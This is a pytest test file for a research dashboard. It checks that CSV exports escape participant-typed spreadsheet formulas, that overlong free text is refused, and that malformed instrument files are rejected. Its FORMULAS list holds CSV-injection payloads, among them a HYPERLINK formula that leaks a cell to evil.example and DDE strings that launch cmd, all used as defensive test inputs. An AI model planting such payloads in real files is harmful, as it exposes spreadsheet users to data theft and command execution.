"""What participants type reaches researchers safely: exports cannot carry spreadsheet formulas, free text is
bounded, and an instrument file that does not parse is refused when a study is made, not when a participant
meets it."""

from __future__ import annotations

import csv
import io
import shutil
import sys

import pandas as pd
import pytest
import questionnaires
from security_kit import caller, log_in_client
from dash import html
from layout_tree import text, walk

from hill_dash.app.csv_cells import csv_text, safe_cell
from hill_dash.app.views import flow
from hill_dash.app.views.study_setup import scenario_defaults
from hill_dash.store import StoreError

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|'/c notepad'!A1"]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_typed_formula_reaches_the_csv_export_as_text(app, world, typed):
    store = world.store
    store.save_answer(world.participant.id, "demographics", "gender", typed)
    client = app.server.test_client()
    log_in_client(client, world.ada)
    exported = client.get(f"/researcher/study/{world.mine.study.id}/answers.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert "'" + typed in cells and typed not in cells


def test_numbers_stay_numbers_and_plain_text_stays_as_typed():
    assert [safe_cell(v) for v in (-3, 2.5, "female", "a=b", None)] == [-3, 2.5, "female", "a=b", None]
    assert csv_text(pd.DataFrame({"=x": ["=1"], "n": [-1]})).splitlines() == ["'=x,n", "'=1,-1"]
    assert list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"v": ["a\rb"]})), newline=""))) == \
        [["v"], ["a\rb"]]


def _at_demographics(store, participant_id: int) -> None:
    store.set_step(participant_id, {"page": flow.DEMOGRAPHICS, "instrument": flow.DEMOGRAPHICS_INSTRUMENT})


@pytest.mark.parametrize("size", [5 * 1024 * 1024, 100_000, 5001])
def test_an_overlong_free_text_is_refused_and_nothing_is_stored(world, size):
    store = world.store
    participant = world.mine.invites[1].participant
    _at_demographics(store, participant.id)
    before = store.answers_frame(world.mine.study.id).shape[0]
    with pytest.raises(flow.FlowError, match="at most"):
        flow.save_other(store, world.other_token, "demographics", "gender", "x" * size)
    step, problems = flow.submit_form(store, world.other_token, store.get_step(participant.id),
                                      {"gender": "y" * size})
    assert problems and "at most" in problems[0] and step["page"] == flow.DEMOGRAPHICS
    with pytest.raises(StoreError, match="at most"):
        store.save_answer(participant.id, "demographics", "gender", "z" * size)
    assert store.answers_frame(world.mine.study.id).shape[0] == before


@pytest.fixture
def broken_instrument(tmp_path, monkeypatch):
    """The shipped instruments plus `broken.yaml`, a file whose items are not a list."""
    from questionnaires import _registry

    folder = tmp_path / "instruments"
    shutil.copytree(_registry.BUILTIN_DIR, folder)
    (folder / "broken.yaml").write_text("id: broken\ntitle: Broken\nitems: not a list\n")
    monkeypatch.setattr(_registry, "BUILTIN_DIR", folder)
    with pytest.raises(questionnaires.InstrumentError):
        questionnaires.load("broken")
    return "broken"


def test_a_malformed_instrument_is_refused_when_the_study_is_made(app, world, broken_instrument):
    researcher_page = sys.modules["hill_dash.app.pages.researcher"]
    defaults = scenario_defaults("digits")
    row = {"scenario": "digits", "use": True, "checkpoint": None, "end": defaults.end_epoch,
           "epochs": ", ".join(map(str, defaults.interaction_epochs))}
    form = {"name": "uses a broken file", "description": "", "consent_text": "Consent.", "alpha": 0.5, "lam": 0.1,
            "instruments": ["umux_lite", broken_instrument], "n_participants": 1,
            "scenarios": [row]}
    with caller(app, researcher=world.ada):
        message, links = researcher_page.create_from_form(world.store, world.ada, "http://lab/", form)
    said = text(message)
    assert links is None and "not created" in said and "broken" in said and "items" in said
    assert "uses a broken file" not in [s.name for s in world.store.list_studies()]
    assert not any(isinstance(c, html.A) for c in walk(message))
